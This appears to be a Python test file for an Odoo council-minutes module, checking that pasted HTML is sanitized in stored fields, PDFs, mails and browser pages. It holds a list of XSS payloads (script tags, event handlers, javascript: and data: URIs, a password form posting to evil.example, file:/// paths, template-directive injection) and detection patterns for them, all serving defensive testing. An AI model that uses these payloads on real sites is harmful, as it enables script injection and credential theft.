"""What somebody pastes into a text runs nowhere: not on a form, the portal, the running screen, in a PDF or a mail."""

import re

import lxml.html
from lxml import etree
from odoo.tools import mute_logger

from tests.common import ShoraCase, ShoraHttpCase, tehran

ATTACKS = (
    "<script>window.hacked = 1</script>",
    '<img src="x" onerror="window.hacked = 1">',
    '<a href="javascript:window.hacked = 1">j</a>',
    '<a href="java&#10;script:window.hacked = 1">j</a>',
    '<a href="data:text/html,<script>window.hacked = 1</script>">d</a>',
    '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
    '<iframe src="javascript:window.hacked = 1" srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '<object data="data:text/html,x"></object><embed src="x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>body { display: none } @import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="background: url(https://evil.example/x.png); width: expression(window.hacked = 1)">p</p>',
    '<img src="file:///etc/hostname"><a href="file:///etc/hostname">f</a>',
    '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
    '<base href="https://evil.example/"><math><mtext onmouseover="window.hacked = 1">m</mtext></math>',
    '<p t-att-onclick="1" t-out="env.cr.dbname" t-call="web.login">q</p>',
    "<details ontoggle='window.hacked = 1' open>d</details><body onpageshow='window.hacked = 1'>",
)
PASTED = f"<p>Said.</p>{''.join(ATTACKS)}"
#: as a name, where text is expected
NAME = "<img src=x onerror='window.hacked = 1'><script>window.hacked = 1</script>"
#: elements that do something by themselves, or make the page another one
ACTIVE = {"script", "iframe", "object", "embed", "meta", "base", "form", "input", "button", "style", "link", "applet"}
SCHEMES = re.compile(r"\s*(java\s*script|vbscript|data:(?!image/)|file:)", re.I)
DIRECTIVES = ("t-out", "t-att", "t-call", "t-esc", "t-raw", "t-if", "t-foreach", "t-set")
#: what loads something, or lets a text cover what the document says
LOADING = re.compile(r"evil\.example|expression\s*\(|@import", re.I)


class PastedCase:
    TODAY = "2026-11-10 12:00"

    def cycle(self):
        """A session with everything pasted; its minutes are a draft."""
        with tehran("2026-10-31 09:00"):
            session = self.plan(self.council, "2026-11-09")
            session.agenda_item_ids.write({"name": f"Item {NAME}", "description": PASTED})
            notice = session.env["shora.notice"]._prepare_for(session)
            notice.body = PASTED
            notice.action_dispatch()
        with tehran("2026-11-09 10:30"):
            session.write({"presiding_ground": "chair", "state": "open"})
            item = session.agenda_item_ids
            item.write({"discussion": PASTED, "decision": PASTED})
            self.resolution = session.env["shora.resolution"].create(
                {"session_id": session.id, "agenda_item_id": item.id, "name": f"R {NAME}", "body": PASTED}
            )
            self.resolution.action_adopt()
            self.close(session)
        self.minutes = session.env["shora.minutes"]._draft_for(session)
        self.minutes.text = PASTED
        self.minutes.item_ids.write({"discussion": PASTED, "decision": PASTED})
        self.held = session
        return session

    def assertTame(self, html, styles=True):
        """Nothing in ``html`` runs, whoever shows it.

        :param styles: whether a text may bring styles of its own
        """
        for element in lxml.html.fragment_fromstring(html or "", create_parent="div").iter(etree.Element):
            shown = etree.tostring(element, encoding="unicode")[:400]
            self.assertNotIn(element.tag, ACTIVE, shown)
            for name, value in element.attrib.items():
                self.assertFalse(name.lower().startswith(("on", *DIRECTIVES)), shown)
                self.assertFalse(SCHEMES.match(value), shown)
                self.assertFalse(name == "srcdoc" or not styles and name == "style", shown)


class TestStored(PastedCase, ShoraCase):
    def test_what_is_stored_is_tame(self):
        self.cycle()
        texts = {
            (record._name, name): record[name]
            for record in (
                self.held.agenda_item_ids,
                self.held.notice_id,
                self.resolution,
                self.minutes,
                self.minutes.item_ids,
            )
            for name, field in record._fields.items()
            if field.type == "html"
        }
        self.assertGreater(len(texts), 8)
        self.assertGreater(sum("Said." in (text or "") for text in texts.values()), 8)
        for where, text in texts.items():
            with self.subTest(where):
                self.assertTame(text)

    def test_every_html_field_is_cleaned_or_computed(self):
        """A new text field that lets scripts in is found here."""
        for model in self.env.registry.values():
            if not model._name.startswith("shora."):
                continue
            for field in model._fields.values():
                if field.type == "html" and not field.related:
                    with self.subTest(field=str(field)):
                        self.assertTrue(field.sanitize or field.compute and not field.store)
                        self.assertFalse(field.sanitize_overridable)

    def test_what_we_make_of_names_is_text(self):
        """Fields that are made here and not cleaned put names in as text."""
        self.council.sudo().write({"name": f"Council {NAME}", "short_name": f"C {NAME}"})
        for partner in self.people.values():
            partner.sudo().name = f"P {NAME}"
        session = self.cycle()
        session.agenda_item_ids.sudo().attachment_ids.name = NAME
        made = 0
        for record in (self.council, session, session.notice_id):
            record.invalidate_recordset()
            for name, field in record._fields.items():
                if field.type == "html" and not field.sanitize:
                    made += 1
                    with self.subTest(field=str(field)):
                        self.assertTame(record[name])
        self.assertGreaterEqual(made, 3)
        for message in session.message_ids | self.minutes.message_ids:
            self.assertTame(message.body)

    def test_printed(self):
        session = self.cycle()
        renderer = self.env["shora.pdf"]
        documents = {
            "minutes": (self.minutes, {"content": self.minutes._content()}),
            "notice": (session.notice_id, {}),
        }
        for name, (record, values) in documents.items():
            with self.subTest(document=name):
                html = renderer._html(f"shora_council.document_{name}", record, **values)
                self.assertPrintedTame(html)
        self.minutes._sign("password")
        self.assertTrue(self.minutes.pdf_sha256)
        addendum = self.minutes.env["shora.minutes.addendum"].create(
            {"minutes_id": self.minutes.id, "reason": NAME, "text": PASTED}
        )
        addendum._sign("password")
        html = renderer._html("shora_council.document_addendum", addendum, content=addendum._sealed_content())
        self.assertPrintedTame(html)

    def assertPrintedTame(self, html):
        body = re.search(r"<body[^>]*>(.*)</body>", html, re.S)[1]
        self.assertIn("Said.", body)
        self.assertTame(body, styles=False)
        self.assertFalse(LOADING.search(re.sub(r">[^<]*<", "><", body)), "texts are texts; attributes load nothing")

    def test_mailed_and_in_calendars(self):
        session = self.cycle()
        for mail in self.env["mail.mail"].search([("model", "=", "shora.notice.recipient")], limit=3):
            self.assertTame(mail.body_html)
        self.assertTame(session.event_id.description)


class TestInTheBrowser(PastedCase, ShoraHttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.make_english_council()
        with tehran("2026-09-01 08:00"):
            cls.member = cls.make_user("pasted_member", "base.group_portal", "Member")
            cls.appoint(cls.council, "B9", cls.member.partner_id, "2026-09-02")

    def quiet(self, path, ready, login):
        """Open ``path`` in a browser and wait for ``ready``: nothing of what was pasted has run."""
        self.browser_js(
            path,
            f"""
            const wait = setInterval(() => {{
                if (document.querySelector({ready!r})) {{
                    clearInterval(wait);
                    setTimeout(() => {{
                        if (window.hacked) {{
                            console.error("pasted code ran");
                        }} else {{
                            console.log("test successful");
                        }}
                    }}, 800);
                }}
            }}, 100);
            """,
            login=login,
            timeout=60,
        )

    @mute_logger("odoo.addons.http_routing.models.ir_http")
    def test_nothing_runs(self):
        session = self.cycle()
        self.quiet(f"/odoo/shora-minutes/{self.minutes.id}", ".o_field_widget[name=item_ids] .o_data_row", "secretary")
        self.quiet(f"/odoo/shora.agenda.item/{session.agenda_item_ids.id}", ".o_field_widget[name=name]", "secretary")
        self.minutes._sign("password")
        self.quiet(f"/my/councils/session/{session.id}", "main", "pasted_member")
        self.quiet("/my/councils/minutes", "main", "pasted_member")
